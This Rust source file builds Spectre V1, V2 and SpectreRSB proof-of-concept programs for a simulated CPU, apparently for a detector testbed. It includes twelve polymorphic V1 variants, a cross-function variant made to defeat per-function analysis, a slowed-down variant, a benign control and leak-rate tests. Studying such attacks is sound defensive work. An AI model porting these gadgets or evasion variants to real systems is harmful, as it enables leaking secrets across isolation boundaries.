//! The Spectre family: V1 (with its twelve polymorphic source
//! transformations), V2 (branch target injection) and SpectreRSB.

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::layout::{
    emit_delay, emit_flush_range, emit_probe_argmin_from, emit_record_result, emit_touch_range,
    install_common_segments, ARRAY1, ARRAY1_SIZE_ADDR, PROBE_ARRAY, SECRET, USER_SECRET,
};

/// The twelve polymorphic SpectreV1 source transformations from the paper's
/// §VI-A1 (plus the unmodified PoC).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum V1Variant {
    /// The unmodified PoC.
    Classic,
    /// Moving the leak to a function that cannot be inlined.
    LeakViaFunction,
    /// Add a left shift by one on the index.
    ShiftedIndex,
    /// Use `x` as the initial value in a `for()` loop.
    ForLoopIndex,
    /// Check the bounds with an AND mask, rather than `<`.
    MaskedBoundsCheck,
    /// Compare against the last-known good value.
    LastKnownGood,
    /// Use a separate value to communicate the safety check.
    SeparateSafetyFlag,
    /// Leak a comparison result (attacker provides both `x` and `k`).
    LeakComparison,
    /// Make the index the sum of two input parameters.
    SumIndex,
    /// Do the safety check in an inline function.
    InlineCheck,
    /// Invert the low bits of `x`.
    InvertLowBits,
    /// Use `memcmp()` to read the memory for the leak.
    MemcmpLeak,
    /// Pass a pointer to the length.
    PointerToLength,
}

impl V1Variant {
    /// All polymorphic transformations (excluding `Classic`).
    pub const POLYMORPHIC: [V1Variant; 12] = [
        V1Variant::LeakViaFunction,
        V1Variant::ShiftedIndex,
        V1Variant::ForLoopIndex,
        V1Variant::MaskedBoundsCheck,
        V1Variant::LastKnownGood,
        V1Variant::SeparateSafetyFlag,
        V1Variant::LeakComparison,
        V1Variant::SumIndex,
        V1Variant::InlineCheck,
        V1Variant::InvertLowBits,
        V1Variant::MemcmpLeak,
        V1Variant::PointerToLength,
    ];

    /// Short name used in workload identifiers.
    pub fn tag(self) -> &'static str {
        match self {
            V1Variant::Classic => "classic",
            V1Variant::LeakViaFunction => "fn-leak",
            V1Variant::ShiftedIndex => "shift-index",
            V1Variant::ForLoopIndex => "for-index",
            V1Variant::MaskedBoundsCheck => "mask-check",
            V1Variant::LastKnownGood => "last-good",
            V1Variant::SeparateSafetyFlag => "safety-flag",
            V1Variant::LeakComparison => "leak-cmp",
            V1Variant::SumIndex => "sum-index",
            V1Variant::InlineCheck => "inline-check",
            V1Variant::InvertLowBits => "invert-bits",
            V1Variant::MemcmpLeak => "memcmp-leak",
            V1Variant::PointerToLength => "len-ptr",
        }
    }
}

/// SpectreV1 build parameters.
#[derive(Debug, Clone, Copy)]
pub struct SpectreV1Params {
    /// Source transformation to apply.
    pub variant: V1Variant,
    /// Safe-filler iterations injected before priming and after disclosure
    /// (the bandwidth-reduction evasion; 0 = full-speed attack).
    pub delay_iters: i64,
}

impl Default for SpectreV1Params {
    fn default() -> Self {
        Self {
            variant: V1Variant::Classic,
            delay_iters: 0,
        }
    }
}

/// Address of the slot holding the last-known-good index / safety flag /
/// length pointer used by some variants.
const AUX_SLOT: u64 = 0x26_0000;
/// Address of the slot holding the indirect-call target for SpectreV2.
const TARGET_SLOT: u64 = 0x27_0000;

/// Builds the SpectreV1 PoC (bounds-check bypass + Flush+Reload channel).
///
/// The program loops forever, leaking one secret byte per iteration into
/// the results buffer.
pub fn spectre_v1(params: SpectreV1Params) -> Program {
    let name = if params.delay_iters > 0 {
        format!("spectre-v1-{}-slowed", params.variant.tag())
    } else {
        format!("spectre-v1-{}", params.variant.tag())
    };
    let mut a = Assembler::new(name);
    install_common_segments(&mut a);
    a.data(AUX_SLOT, 64u64.to_le_bytes().to_vec());
    // Length-pointer variant: AUX_SLOT+8 holds a pointer to the length.
    a.data(AUX_SLOT + 8, ARRAY1_SIZE_ADDR.to_le_bytes().to_vec());

    let victim = a.label();
    let outer = a.label();

    // Pre-warm the secret lines (the victim "recently used" its secret, as
    // in the PoCs; keeps the transient gadget's first load fast).
    emit_touch_range(&mut a, USER_SECRET, 1);

    a.li(Reg::R20, 0); // secret byte index i
    a.li(Reg::R28, 0x1357_9bdf_2468_ace1); // xorshift state for train counts
    a.bind(outer);
    if params.delay_iters > 0 {
        emit_delay(&mut a, params.delay_iters);
    }
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence(); // order the flushes before the speculation phase (mfence)

    // Pseudo-random training count 4..=11 so neither the local history nor
    // the global history can learn when the attack iteration comes.
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    a.li(Reg::R21, 0); // j: 0..=train_count, last iteration attacks
    let train_top = a.label();
    a.bind(train_top);
    // Branch-free index selection (as in the original PoC, which uses
    // bit masks here precisely so the selection does not pollute the
    // branch history the attack is mistraining).
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26); // 1 while training
    a.sub(Reg::R9, Reg::R0, Reg::R9); // all-ones mask while training
    a.andi(Reg::R22, Reg::R21, 7); // training x
    adjust_training_index(&mut a, params.variant, Reg::R22);
    a.li(Reg::R23, (USER_SECRET - ARRAY1) as i64); // attack x
    a.add(Reg::R23, Reg::R23, Reg::R20);
    adjust_attack_index(&mut a, params.variant, Reg::R23);
    a.and(Reg::R22, Reg::R22, Reg::R9);
    a.xori(Reg::R8, Reg::R9, -1); // ~mask
    a.and(Reg::R23, Reg::R23, Reg::R8);
    a.or(Reg::R24, Reg::R22, Reg::R23);
    if params.variant == V1Variant::SumIndex {
        // Second parameter: 0 while training, 0x100 on the attack call.
        a.li(Reg::R27, 0x100);
        a.and(Reg::R27, Reg::R27, Reg::R8);
    }
    a.mark(MarkKind::PhaseSpeculate);
    // Flush the bound so the check resolves slowly (the window).
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.flush(Reg::R5, 0);
    if params.variant == V1Variant::SeparateSafetyFlag
        || params.variant == V1Variant::LastKnownGood
        || params.variant == V1Variant::PointerToLength
    {
        a.li(Reg::R5, AUX_SLOT as i64);
        a.flush(Reg::R5, 0);
    }
    a.fence(); // the PoCs' mfence: the bound really is uncached when read
    a.call(victim);
    a.addi(Reg::R21, Reg::R21, 1);
    // One attack iteration after training: loop while j <= train_count.
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    if params.delay_iters > 0 {
        emit_delay(&mut a, params.delay_iters);
    }
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // ---- victim(x in R24) ----
    a.bind(victim);
    emit_victim(&mut a, params.variant);

    a.finish().expect("spectre_v1 assembles")
}

/// Training-index adjustment so each variant's index transformation still
/// lands in bounds during training. Operates on `x` in place.
fn adjust_training_index(a: &mut Assembler, v: V1Variant, x: Reg) {
    match v {
        V1Variant::ShiftedIndex => {
            // Victim shifts left by one; train with x in 0..4 so x<<1 < 8.
            a.andi(x, x, 3);
        }
        V1Variant::InvertLowBits => {
            // Victim xors with 1; any x in 0..8 stays in bounds.
        }
        _ => {}
    }
}

/// Attack-index adjustment inverting each variant's transformation.
/// Operates on `x` in place.
fn adjust_attack_index(a: &mut Assembler, v: V1Variant, x: Reg) {
    match v {
        V1Variant::ShiftedIndex => {
            // Victim computes x<<1: pass half the offset. The secret offset
            // is even, i may be odd; the halved index loses bit 0, so this
            // variant leaks even bytes only — a lossy polymorphic variant,
            // as in the paper ("some variations don't leak").
            a.shri(x, x, 1);
        }
        V1Variant::SumIndex => {
            // x = a + b: split the offset across the two parameters (the
            // caller selects R27 = 0x100 on the attack iteration).
            a.subi(x, x, 0x100);
        }
        V1Variant::InvertLowBits => {
            // Victim xors with 1: pre-invert so it cancels.
            a.xori(x, x, 1);
        }
        _ => {}
    }
}

/// Emits the victim function for the given variant. `x` arrives in `R24`;
/// the body performs a (mispredictable) safety check and the two-load leak
/// gadget, then returns.
fn emit_victim(a: &mut Assembler, v: V1Variant) {
    let skip = a.label();
    let x = Reg::R24;
    let (size, y) = (Reg::R6, Reg::R7);

    // ---- the safety check ----
    match v {
        V1Variant::MaskedBoundsCheck => {
            // if ((x & 7) == x) → in bounds. Mispredictable equality branch.
            a.andi(Reg::R8, x, 7);
            a.bne(Reg::R8, x, skip);
            // Load the (flushed) size anyway so the timing window exists.
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
        }
        V1Variant::LastKnownGood => {
            // if (x > last_good) skip; last_good lives in flushed memory.
            a.li(Reg::R5, AUX_SLOT as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
        }
        V1Variant::SeparateSafetyFlag => {
            // Caller-provided flag in memory gates the access.
            a.li(Reg::R5, AUX_SLOT as i64);
            a.load(Reg::R8, Reg::R5, 0);
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
            a.beqz(Reg::R8, skip);
        }
        V1Variant::PointerToLength => {
            // Double indirection: load the pointer, then the length.
            a.li(Reg::R5, (AUX_SLOT + 8) as i64);
            a.load(Reg::R8, Reg::R5, 0);
            a.load(size, Reg::R8, 0);
            a.bge(x, size, skip);
        }
        V1Variant::InlineCheck => {
            // Inline check: compute (x - size) and branch on the sign.
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.sub(Reg::R8, x, size);
            a.li(Reg::R9, 0);
            a.bge(Reg::R8, Reg::R9, skip);
        }
        _ => {
            a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
            a.load(size, Reg::R5, 0);
            a.bge(x, size, skip);
        }
    }

    // ---- index transformation inside the victim ----
    match v {
        V1Variant::ShiftedIndex => a.shli(x, x, 1),
        V1Variant::InvertLowBits => a.xori(x, x, 1),
        V1Variant::SumIndex => a.add(x, x, Reg::R27),
        _ => {}
    }

    // ---- the leak gadget ----
    match v {
        V1Variant::LeakViaFunction => {
            // Leak through a real (non-inlinable) function call.
            let leak_fn = a.label();
            a.call(leak_fn);
            a.bind(skip);
            a.ret();
            a.bind(leak_fn);
            emit_two_load_gadget(a, x, y);
            a.ret();
        }
        V1Variant::ForLoopIndex => {
            // for (k = x; k < x + 1; k++) leak(array1[k]);
            let (k, lim) = (Reg::R8, Reg::R9);
            a.mv(k, x);
            a.addi(lim, x, 1);
            let top = a.label();
            a.bind(top);
            emit_two_load_gadget(a, k, y);
            a.addi(k, k, 1);
            a.blt(k, lim, top);
            a.bind(skip);
            a.ret();
        }
        V1Variant::LeakComparison => {
            // Leak array1[x] == k as one bit: probe line 0 or 1.
            a.li(Reg::R5, ARRAY1 as i64);
            a.add(Reg::R5, Reg::R5, x);
            a.loadb(y, Reg::R5, 0);
            a.li(Reg::R8, b'T' as i64); // k, attacker-provided
            a.li(Reg::R9, 0);
            let neq = a.label();
            a.bne(y, Reg::R8, neq);
            a.li(Reg::R9, 1);
            a.bind(neq);
            a.shli(Reg::R9, Reg::R9, 6);
            a.addi(Reg::R9, Reg::R9, PROBE_ARRAY as i64);
            a.loadb(y, Reg::R9, 0);
            a.bind(skip);
            a.ret();
        }
        V1Variant::MemcmpLeak => {
            // memcmp(array1 + x, probe_key, 1)-style: byte-compare loop
            // whose load feeds the channel.
            a.li(Reg::R5, ARRAY1 as i64);
            a.add(Reg::R5, Reg::R5, x);
            a.loadb(y, Reg::R5, 0);
            a.li(Reg::R8, 0);
            let top = a.label();
            a.bind(top);
            a.shli(Reg::R9, y, 6);
            a.addi(Reg::R9, Reg::R9, PROBE_ARRAY as i64);
            a.loadb(Reg::R5, Reg::R9, 0);
            a.addi(Reg::R8, Reg::R8, 1);
            a.li(Reg::R9, 1);
            a.blt(Reg::R8, Reg::R9, top);
            a.bind(skip);
            a.ret();
        }
        _ => {
            emit_two_load_gadget(a, x, y);
            a.bind(skip);
            a.ret();
        }
    }
}

/// The canonical two-load disclosure gadget:
/// `y = array1[x]; tmp = probe[y * 64];`
fn emit_two_load_gadget(a: &mut Assembler, x: Reg, y: Reg) {
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, x);
    a.loadb(y, Reg::R5, 0);
    a.shli(y, y, 6);
    a.addi(y, y, PROBE_ARRAY as i64);
    a.loadb(Reg::R5, y, 0);
}

/// Builds the cross-function SpectreV1 variant: the flushed bounds check
/// and the secret load live in the *callee*, which returns the byte in a
/// register; the probe-array touch that transmits it lives in the *caller*,
/// after the `ret`. The transient window opened by the mispredicted check
/// carries execution through the return and into the caller's transmit
/// sequence — a gadget no intraprocedural region analysis can pair up,
/// since the dependent loads sit in different functions.
///
/// Architecturally the caller's transmit always runs, but with the stale
/// register value from the last training call (an [`ARRAY1`] byte < 16),
/// touching only the probe lines the argmin sweep ignores.
pub fn spectre_v1_crossfn() -> Program {
    let mut a = Assembler::new("spectre-v1-crossfn");
    install_common_segments(&mut a);

    let victim = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    a.li(Reg::R20, 0); // secret byte index i
    a.li(Reg::R28, 0x6a09_e667_bb67_ae85); // xorshift state
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    // Pseudo-random training count 4..=11 (same rationale as spectre_v1).
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    a.li(Reg::R21, 0); // j: 0..=train_count, last iteration attacks
    let train_top = a.label();
    a.bind(train_top);
    // Branch-free index selection, as in spectre_v1.
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26);
    a.sub(Reg::R9, Reg::R0, Reg::R9);
    a.andi(Reg::R22, Reg::R21, 7);
    a.li(Reg::R23, (USER_SECRET - ARRAY1) as i64);
    a.add(Reg::R23, Reg::R23, Reg::R20);
    a.and(Reg::R22, Reg::R22, Reg::R9);
    a.xori(Reg::R8, Reg::R9, -1);
    a.and(Reg::R23, Reg::R23, Reg::R8);
    a.or(Reg::R24, Reg::R22, Reg::R23);
    a.mark(MarkKind::PhaseSpeculate);
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.flush(Reg::R5, 0);
    a.fence();
    a.call(victim);
    // Caller half of the gadget: transmit the byte the callee returned in
    // R7 through the probe array. Runs transiently with the secret while
    // the callee's bounds check is still resolving.
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.addi(Reg::R21, Reg::R21, 1);
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // ---- victim(x in R24) -> byte in R7 ----
    // Only the check and the secret load; no transmit.
    a.bind(victim);
    let skip = a.label();
    a.li(Reg::R5, ARRAY1_SIZE_ADDR as i64);
    a.load(Reg::R6, Reg::R5, 0); // slow: just flushed
    a.bge(Reg::R24, Reg::R6, skip);
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, Reg::R24);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.bind(skip);
    a.ret();

    a.finish().expect("spectre_v1_crossfn assembles")
}

/// Benign control for the interprocedural analyzer: a helper function
/// whose loaded result feeds a dependent load back in the caller — the
/// same cross-function dependent-pair *shape* as [`spectre_v1_crossfn`] —
/// but with no flush, no mispredictable guard against flushed data, and no
/// timing measurement. A precise analyzer must leave it clean.
pub fn crossfn_benign() -> Program {
    let mut a = Assembler::new("crossfn-benign");
    a.data(ARRAY1, (0u8..16).collect::<Vec<u8>>());
    a.data(PROBE_ARRAY, vec![1u8; 256 * 64]);

    let helper = a.label();
    let done = a.label();

    a.li(Reg::R20, 0); // i
    a.li(Reg::R21, 64); // iterations
    let top = a.label();
    a.bind(top);
    a.andi(Reg::R24, Reg::R20, 7);
    a.call(helper);
    // Dependent use of the callee's result: index a table with it.
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.addi(Reg::R20, Reg::R20, 1);
    a.blt(Reg::R20, Reg::R21, top);
    a.jmp(done);

    // helper(x in R24) -> byte in R7, with an in-bounds check.
    a.bind(helper);
    let skip = a.label();
    a.li(Reg::R6, 16);
    a.bge(Reg::R24, Reg::R6, skip);
    a.li(Reg::R5, ARRAY1 as i64);
    a.add(Reg::R5, Reg::R5, Reg::R24);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.bind(skip);
    a.ret();

    a.bind(done);
    a.halt();
    a.finish().expect("crossfn_benign assembles")
}

/// Builds the SpectreV2 PoC: branch target injection through the BTB.
///
/// The attacker trains an indirect call site to target a disclosure gadget,
/// then redirects it (architecturally) to a benign function whose target
/// loads slowly — the BTB speculates into the gadget.
pub fn spectre_v2() -> Program {
    let mut a = Assembler::new("spectre-v2");
    install_common_segments(&mut a);
    a.data(TARGET_SLOT, vec![0u8; 8]);

    let gadget = a.label();
    let benign = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    // Store the benign target into TARGET_SLOT and keep the gadget address
    // in a register for the mistraining calls.
    a.la(Reg::R6, benign);
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.store(Reg::R6, Reg::R5, 0);
    a.la(Reg::R13, gadget);

    a.li(Reg::R20, 0); // secret index
    a.li(Reg::R28, 0x0f1e_2d3c_4b5a_6978); // xorshift state
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    // Pseudo-random training count (same rationale as SpectreV1).
    a.shli(Reg::R9, Reg::R28, 13);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shri(Reg::R9, Reg::R28, 7);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.shli(Reg::R9, Reg::R28, 17);
    a.xor(Reg::R28, Reg::R28, Reg::R9);
    a.andi(Reg::R26, Reg::R28, 7);
    a.addi(Reg::R26, Reg::R26, 4);

    // Mistrain and attack through the SAME indirect call site: while
    // training, the architectural target is the gadget (the BTB learns it);
    // on the final iteration the target — loaded slowly from just-flushed
    // memory — is the benign function, and the BTB speculates into the
    // gadget with the pointer now aimed at the secret.
    a.li(Reg::R21, 0);
    let train_top = a.label();
    a.bind(train_top);
    a.alu(uarch_isa::AluOp::Slt, Reg::R9, Reg::R21, Reg::R26);
    a.sub(Reg::R9, Reg::R0, Reg::R9); // all-ones while training
    a.xori(Reg::R8, Reg::R9, -1); // all-ones on the attack iteration
                                  // Target selection.
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.flush(Reg::R5, 0);
    a.fence();
    a.li(Reg::R5, TARGET_SLOT as i64);
    a.load(Reg::R22, Reg::R5, 0); // slow: just flushed
    a.and(Reg::R23, Reg::R13, Reg::R9); // gadget while training
    a.and(Reg::R22, Reg::R22, Reg::R8); // benign on attack
    a.or(Reg::R12, Reg::R23, Reg::R22);
    // Pointer selection: harmless probe line while training, the secret
    // byte on the attack iteration.
    a.li(Reg::R23, PROBE_ARRAY as i64);
    a.and(Reg::R23, Reg::R23, Reg::R9);
    a.li(Reg::R22, USER_SECRET as i64);
    a.add(Reg::R22, Reg::R22, Reg::R20);
    a.and(Reg::R22, Reg::R22, Reg::R8);
    a.or(Reg::R14, Reg::R23, Reg::R22);
    a.mark(MarkKind::PhaseSpeculate);
    a.call_ind(Reg::R12);
    a.addi(Reg::R21, Reg::R21, 1);
    a.bge(Reg::R26, Reg::R21, train_top);

    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // Gadget: leak the byte R14 points at.
    a.bind(gadget);
    a.loadb(Reg::R7, Reg::R14, 0);
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.ret();

    a.bind(benign);
    a.ret();

    a.finish().expect("spectre_v2 assembles")
}

/// Builds the SpectreRSB PoC: pollute the return stack buffer with an
/// unmatched call/return pair.
///
/// `f` overwrites its own return address; the RAS still predicts the call's
/// fall-through, where the attacker has planted a disclosure gadget.
pub fn spectre_rsb() -> Program {
    let mut a = Assembler::new("spectre-rsb");
    install_common_segments(&mut a);

    let f = a.label();
    let after = a.label();
    let outer = a.label();

    emit_touch_range(&mut a, USER_SECRET, 1);
    a.li(Reg::R20, 0);
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.fence();

    a.li(Reg::R14, USER_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.la(Reg::R9, after);
    a.mark(MarkKind::PhaseSpeculate);
    a.call(f);
    // Fall-through of the call: the RAS prediction target. The disclosure
    // gadget lives here and only ever executes speculatively.
    a.loadb(Reg::R7, Reg::R14, 0);
    a.shli(Reg::R7, Reg::R7, 6);
    a.addi(Reg::R7, Reg::R7, PROBE_ARRAY as i64);
    a.loadb(Reg::R6, Reg::R7, 0);
    a.bind(after);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin_from(&mut a, Reg::R25, 16);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    // f: unmatched call/return — replaces its return address.
    a.bind(f);
    a.set_ret(Reg::R9);
    a.ret();

    a.finish().expect("spectre_rsb assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout::RESULTS;
    use crate::run_on_machine;

    fn leak_rate(program: Program, insts: u64) -> (f64, sim_cpu::Machine) {
        let m = run_on_machine(program, insts);
        let core = m.core(0);
        let mut hits = 0;
        let mut total = 0;
        for (i, &expect) in SECRET.iter().enumerate() {
            let got = core.mem().memory().read(RESULTS + i as u64, 1) as u8;
            if got != 0 {
                total += 1;
                if got == expect {
                    hits += 1;
                }
            }
        }
        let rate = if total == 0 {
            0.0
        } else {
            hits as f64 / total as f64
        };
        (rate, m)
    }

    #[test]
    fn spectre_v1_classic_leaks_the_secret() {
        let (rate, m) = leak_rate(spectre_v1(SpectreV1Params::default()), 3_000_000);
        let core = m.core(0);
        assert!(
            rate > 0.7,
            "SpectreV1 should recover most attempted bytes, got {rate}"
        );
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
        assert!(
            core.marks().iter().any(|m| m.kind == MarkKind::LeakByte),
            "leak marks recorded"
        );
    }

    #[test]
    fn spectre_v2_btb_injection_leaks() {
        let (rate, m) = leak_rate(spectre_v2(), 3_000_000);
        let core = m.core(0);
        assert!(rate > 0.5, "SpectreV2 should leak, got {rate}");
        assert!(
            core.stats().bpred.indirect_mispredicted.value() > 0,
            "the injected target must mispredict architecturally"
        );
    }

    #[test]
    fn spectre_rsb_leaks_through_the_ras() {
        let (rate, m) = leak_rate(spectre_rsb(), 3_000_000);
        let core = m.core(0);
        assert!(rate > 0.5, "SpectreRSB should leak, got {rate}");
        assert!(core.stats().bpred.ras_incorrect.value() > 0);
    }

    #[test]
    fn spectre_v1_crossfn_leaks_through_the_return() {
        let (rate, m) = leak_rate(spectre_v1_crossfn(), 3_000_000);
        let core = m.core(0);
        assert!(
            rate > 0.5,
            "cross-function SpectreV1 should leak through the ret, got {rate}"
        );
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
        assert!(
            core.marks().iter().any(|m| m.kind == MarkKind::LeakByte),
            "leak marks recorded"
        );
    }

    #[test]
    fn crossfn_benign_runs_to_completion() {
        let m = run_on_machine(crossfn_benign(), 100_000);
        assert!(m.all_halted(), "benign control halts");
    }

    #[test]
    fn all_polymorphic_variants_assemble_and_run() {
        for v in V1Variant::POLYMORPHIC {
            let p = spectre_v1(SpectreV1Params {
                variant: v,
                delay_iters: 0,
            });
            let m = run_on_machine(p, 100_000);
            let core = m.core(0);
            assert!(
                m.total_committed() > 10_000,
                "variant {v:?} must make progress"
            );
            assert!(
                core.stats().commit.squashed_insts.value() > 0,
                "variant {v:?} must speculate"
            );
        }
    }

    #[test]
    fn bandwidth_reduced_variant_still_speculates() {
        let p = spectre_v1(SpectreV1Params {
            variant: V1Variant::Classic,
            delay_iters: 3000,
        });
        let m = run_on_machine(p, 500_000);
        let core = m.core(0);
        assert!(core.stats().iew.branch_mispredicts.value() > 0);
    }
}
